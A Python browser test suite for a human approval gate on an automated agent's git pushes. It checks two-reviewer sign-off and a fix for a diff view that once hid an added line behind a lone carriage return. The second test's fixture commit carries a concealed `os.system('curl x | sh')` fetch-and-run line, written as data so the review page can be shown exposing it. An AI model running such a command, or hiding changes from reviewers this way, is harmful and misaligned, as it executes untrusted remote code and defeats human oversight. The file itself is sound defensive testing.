"""A reviewer in a real browser (Debian's Chromium via Playwright): find a held request through
the queue's filters, read the diff, approve with password and attestation; a second reviewer
completes the two-approval model guard; then the agent's push goes through."""

from __future__ import annotations

import re

import pytest

from tests.e2e.conftest import ARTIFACTS
from tests.support.gitrepo import CLAUDE_TRAILER, remote_ref
from tests.support.reading import tick_every_file
from tests.support.server import PASSWORD, GatedRepo, LiveServer, request_id_from

pytestmark = [pytest.mark.e2e, pytest.mark.browser]

PHONE = {"width": 390, "height": 844}
DESKTOP = {"width": 1280, "height": 900}
AGENT = ("Build Bot", "ci@bots.example.com")


def log_in(browser, server: LiveServer, username: str):  # type: ignore[no-untyped-def]
    context = browser.new_context(viewport=DESKTOP)
    page = context.new_page()
    page.goto(f"{server.url}/requests")
    page.get_by_label("Username").fill(username)
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Log in").click()
    page.get_by_role("heading", name="Approval requests").wait_for()
    return context, page


def approve(page, comment: str) -> None:  # type: ignore[no-untyped-def]
    from playwright.sync_api import expect

    tick_every_file(page, guarded_only=True)
    page.get_by_role("radio", name="Approve").check()
    page.get_by_label("Comment", exact=True).fill(comment)
    page.get_by_role("checkbox", name=re.compile(r"I reviewed commit")).check()
    page.get_by_label("Your password (needed to approve)").fill(PASSWORD)
    page.get_by_role("button", name="Record decision").click()
    expect(page.get_by_role("status").filter(has_text="Your decision was recorded")).to_be_visible()


def shoot(page, name: str) -> None:  # type: ignore[no-untyped-def]
    ARTIFACTS.mkdir(exist_ok=True)
    for label, size in (("1280", DESKTOP), ("phone", PHONE)):
        page.set_viewport_size(size)
        page.screenshot(path=str(ARTIFACTS / f"{name}-{label}.png"), full_page=True)
        width = page.evaluate("document.documentElement.scrollWidth")
        assert width <= size["width"] + 1, f"{name} scrolls sideways at {label}: {width}px"
    page.set_viewport_size(DESKTOP)


def test_two_reviewers_sign_off_in_the_browser(
    gated: GatedRepo, server: LiveServer, browser
) -> None:  # type: ignore[no-untyped-def]
    from playwright.sync_api import expect

    clone = gated.clone()
    clone.commit("initial", {"train/loop.py": "steps = 1\n", "model/net.py": "layers = 1\n"})
    assert clone.push().ok
    clone.run("checkout", "-q", "-b", "release/1.0")
    clone.commit("more steps", {"train/loop.py": "steps = 2\n"}, trailers=[CLAUDE_TRAILER])
    decoy = request_id_from(clone.push("HEAD:refs/heads/release/1.0").gate_lines)
    clone.run("checkout", "-q", "main")
    sha = clone.commit(
        "Widen the network",
        {
            "model/net.py": "def build(width: int = 512) -> dict:\n    return {'layers': 2, 'width': width}\n",
            "docs/notes.md": "wider\n",
            "model/weights.bin": bytes(range(256)) * 4,
        },
        author=AGENT,
    )
    held = clone.push()
    assert not held.ok
    request_id = request_id_from(held.gate_lines)

    alice_context, page = log_in(browser, server, "alice")
    page.get_by_label("Guard").select_option("model")
    page.get_by_role("button", name="Filter").click()
    expect(page.get_by_role("link", name=f"Request #{request_id}")).to_be_visible()
    expect(page.get_by_role("link", name=f"Request #{decoy}")).to_have_count(0)
    page.get_by_label("Search commits and messages").fill(sha[:10])
    page.get_by_role("button", name="Filter").click()
    expect(page.get_by_role("link", name=f"Request #{request_id}")).to_be_visible()
    shoot(page, "queue")

    page.get_by_role("link", name=f"Request #{request_id}").click()
    expect(page.get_by_role("heading", name=f"Request #{request_id}")).to_be_visible()
    code = page.get_by_role("table", name="Changes to model/net.py")
    expect(code).to_contain_text("'layers': 2")
    expect(code.locator("span.k").first).to_be_visible()  # Pygments, rendered on the server
    files = page.locator("details.file > summary")
    expect(files.first).to_contain_text("guarded: model")  # guarded files first
    expect(page.get_by_text("Binary file: 0 → 1024 bytes")).to_be_visible()
    expect(page.get_by_text(re.compile(r"I reviewed commit .* for guard model"))).to_be_visible()
    shoot(page, "request")

    approve(page, "Width change is fine.")
    expect(page.get_by_text("model: 1 of 2 approvals")).to_be_visible()
    assert not clone.push().ok, "one of two approvals is not enough"
    alice_context.close()

    bob_context, page = log_in(browser, server, "bob")
    page.get_by_label("State").select_option("pending")
    page.get_by_label("Agent").select_option("agents.emails")
    page.get_by_role("button", name="Filter").click()
    page.get_by_role("link", name=f"Request #{request_id}").click()
    approve(page, "Agreed.")
    expect(page.get_by_role("heading", name=f"Request #{request_id}")).to_contain_text("approved")
    bob_context.close()

    final = clone.push()
    assert final.ok, final.stderr
    assert remote_ref(gated.bare) == sha


def test_a_lone_cr_hides_no_line_from_the_reviewer(
    gated: GatedRepo, server: LiveServer, browser
) -> None:  # type: ignore[no-untyped-def]
    """Issue 11, point 8: an added line with a lone CR once made the highlighter split it, the
    table was cut to the input's line count, and the harmful last line was not shown."""
    from playwright.sync_api import expect

    clone = gated.clone()
    clone.commit("initial", {"README.md": "hi\n"})
    assert clone.push().ok
    clone.commit(
        "Tidy the loop",
        {"train/loop.py": b"import os\r# looks harmless\nsteps = 2\nos.system('curl x | sh')\n"},
        author=AGENT,
    )
    held = clone.push()
    assert not held.ok
    request_id = request_id_from(held.gate_lines)

    context, page = log_in(browser, server, "alice")
    page.goto(f"{server.url}/requests/{request_id}")
    table = page.get_by_role("table", name="Changes to train/loop.py")
    added = table.locator("tr.add td.code")
    expect(added).to_have_count(3)
    expect(added.nth(0)).to_have_text("import os\\r# looks harmless")
    expect(added.nth(0).locator("span.hidden-char")).to_be_visible()
    expect(added.nth(2)).to_have_text("os.system('curl x | sh')")
    expect(added.nth(2)).to_be_visible()
    expect(page.get_by_text("1 hidden character, shown as escapes")).to_be_visible()
    shoot(page, "request-hidden-characters")
    context.close()
